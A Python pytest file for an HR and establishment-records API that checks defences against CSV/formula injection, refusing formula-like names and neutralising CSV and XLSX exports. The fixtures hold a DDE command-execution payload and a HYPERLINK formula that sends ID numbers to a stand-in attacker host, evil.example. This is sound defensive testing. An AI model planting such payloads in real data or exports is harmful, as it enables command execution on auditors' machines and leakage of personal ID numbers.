"""API8:2023 Security Misconfiguration — injection: formulas smuggled into the exports.

OWASP's 2023 list folds the 2019 list's "API8 Injection" into this item; the attack here is
"CSV Injection" (formula injection) as the OWASP page of that name describes it. A department
pushes text that a spreadsheet would run as a formula — HR a person named
``=cmd|' /C calc'!A0``, the establishment office a unit renamed to
``=HYPERLINK("http://evil.example/?d="&H2,"点击查看")`` (column H of the discrepancy list is
the ID number) — and an auditor opens the discrepancy or staffing report in Excel.

Two defences, each tested on its own:

- at the edge, a person's or unit's name may not start with a formula character nor hold a
  control character (422 naming row, field and code, nothing applied);
- in the exports, every text cell is neutralised whatever its origin (a name stored before
  the check, a document number, a summary): the CSV prefixes it with ``'``, the XLSX keeps it
  an inline string (never a formula). Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, text

from linkage_hub.db import Database
from linkage_hub.records.models import EmploymentRecord
from linkage_hub.registry.models import RegistryUnit
from tests.conftest import HeadersFor
from tests.reconciliation.test_api import run_and_wait
from tests.records import factory as f
from tests.records.conftest import Push

PERSON = "=cmd|' /C calc'!A0"
UNIT = '=HYPERLINK("http://evil.example/?d="&H2,"点击查看")'
DOCUMENT = "-2+3+cmd|' /C calc'!A0"
U1 = f.unit_code(1)


def csv_rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_sheet(response: Any) -> Any:
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]


def string_cell(sheet: Any, value: str) -> Any:
    """The cell holding ``value`` exactly, checked to be a string (not a formula)."""
    cells = [c for row in sheet.iter_rows() for c in row if c.value == value]
    assert cells, f"{value!r} is not in the sheet"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix
    return cells[0]


class TestNamesAreRefusedAtTheEdge:
    @pytest.mark.parametrize(
        "name",
        [PERSON, "+86 张三", "-张三", "@SUM(1+1)", "＝1+1", "　=1+1", "张\t三", "张三\r\n"],
    )
    def test_hr_cannot_push_a_formula_or_control_character_as_a_name(
        self, push: Push, client: TestClient, headers_for: HeadersFor, name: str
    ) -> None:
        response = push("employment", [f.employment(1), f.employment(2, name=name)])
        assert response.status_code == 422, response.text
        errors = response.json()["errors"]
        assert [(e["row"], e["field"]) for e in errors] == [(2, "name")]
        assert errors[0]["code"] in ("formula_character", "control_character")
        listed = client.get("/api/v1/datasets/employment/records", headers=headers_for("hr"))
        assert listed.json()["items"] == []

    def test_a_unit_cannot_be_renamed_to_a_formula_in_json_csv_or_one_record(
        self, push: Push, client: TestClient, headers_for: HeadersFor
    ) -> None:
        assert push("units", [f.unit(1)]).status_code == 201
        response = push("units", [f.unit(2), f.unit(1, name=UNIT)])
        assert response.status_code == 422, response.text
        assert [(e["row"], e["field"], e["code"]) for e in response.json()["errors"]] == [
            (2, "name", "formula_character")
        ]
        headers = headers_for("establishment")
        body = "unit_code,name,region,kind,funding,status\n"
        body += f'{U1},"{UNIT.replace(chr(34), chr(34) * 2)}",230100,institution,full,active\n'
        response = client.post(
            "/api/v1/datasets/units/batches",
            content=body.encode(),
            headers={**headers, "content-type": "text/csv"},
        )
        assert response.status_code == 422, response.text
        assert [(e["row"], e["field"]) for e in response.json()["errors"]] == [(1, "name")]
        records = client.get("/api/v1/datasets/units/records", headers=headers).json()["items"]
        assert [r["name"] for r in records] == ["单位1"]

    def test_other_text_fields_are_accepted(
        self, push: Push, client: TestClient, headers_for: HeadersFor
    ) -> None:
        """Only names are refused: a document number may well start with ``-`` or ``+``."""
        quota = {
            "unit_code": U1,
            "establishment_type": "institutional",
            "approved": 1,
            "document_no": DOCUMENT,
        }
        assert push("units", [f.unit(1, functions="=1+1 职能")]).status_code == 201
        assert push("quotas", [quota]).status_code == 201


@pytest.fixture
def stored_before_the_check(push: Push, database: Database) -> None:
    """A city whose names were stored before the edge refused formulas: pushed clean, then
    renamed in the database (as a migration from an older hub would leave them).

    Unit 1 (quota 1) has two people on the roster, so it is over quota (a unit finding with the
    unit name); HR employs only person 1, so person 2 is on the roster but not employed (a
    person finding with the name)."""
    assert push("units", [f.unit(1), f.unit(2)]).status_code == 201
    quotas = [
        {"unit_code": code, "establishment_type": "institutional", "approved": approved}
        | {"effective_on": "2026-01-01"}
        for code, approved in ((U1, 1), (f.unit_code(2), 5))
    ]
    assert push("quotas", quotas).status_code == 201
    assert push("roster", [f.roster(1), f.roster(2)]).status_code == 201
    assert push("employment", [f.employment(1)]).status_code == 201
    with database.transaction() as session:
        session.execute(
            text("UPDATE registry_unit SET name = :name WHERE unit_code = :code"),
            {"name": UNIT, "code": U1},
        )
        for table in ("records_roster", "records_employment"):
            session.execute(text(f"UPDATE {table} SET name = :name"), {"name": PERSON})
        assert session.scalar(select(func.count()).where(RegistryUnit.name == UNIT)) == 1
        assert session.scalar(select(func.count()).where(EmploymentRecord.name == PERSON)) == 1


class TestStaffingReport:
    def test_csv_neutralises_text_and_keeps_numbers(
        self, stored_before_the_check: None, client: TestClient, headers_for: HeadersFor
    ) -> None:
        response = client.get(
            "/api/v1/reports/staffing",
            params={"format": "csv", "as_of": "2026-10-31"},
            headers=headers_for("audit"),
        )
        rows = csv_rows(response)
        by_unit = {r[0]: r for r in rows[1:]}
        assert by_unit[U1][1] == "'" + UNIT
        assert by_unit[f.unit_code(2)][1] == "单位2"
        assert by_unit[f.unit_code(2)][8] == "-5"  # difference: a number, not text
        assert not [c for r in rows for c in r if c and c[0] in "=+@＝＋－＠\t\r"]
        raw = response.content.decode("utf-8-sig")
        assert '"\'=HYPERLINK(""http://evil.example/?d=""&H2,""点击查看"")"' in raw

    def test_xlsx_holds_the_name_as_a_string_never_a_formula(
        self, stored_before_the_check: None, client: TestClient, headers_for: HeadersFor
    ) -> None:
        response = client.get(
            "/api/v1/reports/staffing",
            params={"format": "xlsx", "as_of": "2026-10-31"},
            headers=headers_for("audit"),
        )
        sheet = xlsx_sheet(response)
        string_cell(sheet, UNIT)
        rows = {r[0]: r for r in sheet.iter_rows(values_only=True)}
        difference = rows[f.unit_code(2)][8]
        assert isinstance(difference, int) and difference == -5


class TestDiscrepancyReport:
    @pytest.fixture
    def reconciled(
        self, stored_before_the_check: None, client: TestClient, headers_for: HeadersFor
    ) -> None:
        run = run_and_wait(client, headers_for("establishment"))
        assert run["status"] == "succeeded", run

    def test_csv_neutralises_unit_and_person_names(
        self, reconciled: None, client: TestClient, headers_for: HeadersFor
    ) -> None:
        response = client.get(
            "/api/v1/reports/discrepancies",
            params={"format": "csv"},
            headers=headers_for("audit"),
        )
        rows = csv_rows(response)
        cells = {c for r in rows for c in r}
        assert "'" + UNIT in cells
        assert "'" + PERSON in cells
        assert not [c for r in rows for c in r if c and c[0] in "=+-@＝＋－＠\t\r"]

    def test_xlsx_holds_names_as_strings(
        self, reconciled: None, client: TestClient, headers_for: HeadersFor
    ) -> None:
        response = client.get(
            "/api/v1/reports/discrepancies",
            params={"format": "xlsx"},
            headers=headers_for("audit"),
        )
        sheet = xlsx_sheet(response)
        string_cell(sheet, UNIT)
        string_cell(sheet, PERSON)

    def test_json_is_left_as_it_is(
        self, reconciled: None, client: TestClient, headers_for: HeadersFor
    ) -> None:
        """JSON is data for programs, not a spreadsheet: nothing is prefixed there."""
        response = client.get("/api/v1/reports/discrepancies", headers=headers_for("audit"))
        items = json.loads(response.content)["items"]
        assert UNIT in {i["unit_name"] for i in items}
